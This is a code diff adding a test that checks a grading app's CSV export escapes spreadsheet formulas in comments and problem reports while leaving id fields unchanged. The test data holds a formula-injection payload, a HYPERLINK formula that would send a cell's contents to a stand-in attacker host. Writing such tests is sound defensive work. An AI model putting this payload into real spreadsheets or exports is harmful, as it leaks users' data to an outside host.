@@ -211,3 +211,22 @@ def test_only_instructors(assignment, students, assistant, outsider, enter):
     path = f"/assignments/{assignment.pk}/export/"
     for member, status in ((assistant, 403), (students[0], 403), (outsider, 404)):
         assert enter(member).get(path).status_code == status
+
+
+def test_no_comment_is_a_formula_and_no_id_changes(assignment, students, papers, instructor, enter):
+    at_ranking(assignment, comments=True)
+    grader = students[0]
+    Person.objects.filter(pk=grader.person_id).update(name="=1+1")
+    type(grader).objects.filter(pk=grader.pk).update(student="=s1")
+    slots = hand_out(assignment, {grader: papers[1:4]})[grader]
+    formula = '=HYPERLINK("http://evil.example.org/"&A2,"see")'
+    comments = dict.fromkeys((slot.token for slot in slots), formula)
+    submit_ranking(assignment, grader, content([[slot.token] for slot in slots], comments=comments))
+    Problem.objects.create(slot=slots[0], kind="empty", text=formula)
+    archive = exported(enter(instructor), assignment)
+    assert {row["comment"] for row in rows(archive, "comments.csv")} == {f"'{formula}"}
+    assert {row["text"] for row in rows(archive, "problems.csv")} == {f"'{formula}"}
+    for name in ("roster.csv", "handout.csv", "rankings.csv"):
+        who = {row.get("grader") or row.get("student") for row in rows(archive, name)}
+        assert "=s1" in who
+        assert "'=s1" not in who
